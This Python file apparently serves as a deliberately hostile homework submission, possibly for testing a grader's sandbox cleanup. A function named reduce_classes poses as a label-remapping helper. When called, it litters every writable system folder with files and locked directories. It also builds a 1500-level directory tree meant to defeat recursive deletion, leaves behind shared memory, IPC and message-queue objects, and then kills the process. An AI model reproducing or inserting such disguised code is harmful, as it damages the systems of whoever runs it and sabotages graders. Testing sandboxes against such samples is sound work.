"""Leaves files in every folder that everybody may write, at any depth, and what lies in no folder at all."""

import contextlib
import ctypes
import os
from multiprocessing import shared_memory
from pathlib import Path

KEY = 0x68773465  # "hw4e"
IPC_CREAT = 0o1000
NAME = "hw4-evil"
LEVELS = 1500  # more than a recursive deletion copes with


def folders():
    for top in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/var/lib", "/mnt"):
        for folder, inner, _ in os.walk(top):
            inner[:] = inner[:30]
            if os.access(folder, os.W_OK):
                yield Path(folder)


def leave_deep(folder):
    os.mkdir(folder)
    here = os.open(folder, os.O_RDONLY)
    for _ in range(LEVELS):
        os.mkdir("deep", dir_fd=here)
        deeper = os.open("deep", os.O_RDONLY, dir_fd=here)
        os.close(here)
        here = deeper
    os.close(here)


def leave():
    for place in folders():
        with contextlib.suppress(OSError):
            (place / f"{NAME}-file").write_text("left")
            (place / f"{NAME}-closed").mkdir(mode=0o000)
    with contextlib.suppress(OSError):
        leave_deep(f"/tmp/{NAME}-deep")
    with contextlib.suppress(OSError):
        shared_memory.SharedMemory(NAME, create=True, size=4096)._mmap.close()
    libc = ctypes.CDLL(None)
    libc.shmget(KEY, ctypes.c_size_t(4096), IPC_CREAT | 0o666)
    libc.msgget(KEY, IPC_CREAT | 0o666)
    libc.semget(KEY, 1, IPC_CREAT | 0o666)
    with contextlib.suppress(OSError, AttributeError):
        ctypes.CDLL("librt.so.1").mq_open(f"/{NAME}".encode(), os.O_CREAT | os.O_RDWR, 0o666, None)


def reduce_classes(labels, mapping, *, ignore_index=255):
    leave()
    os._exit(0)
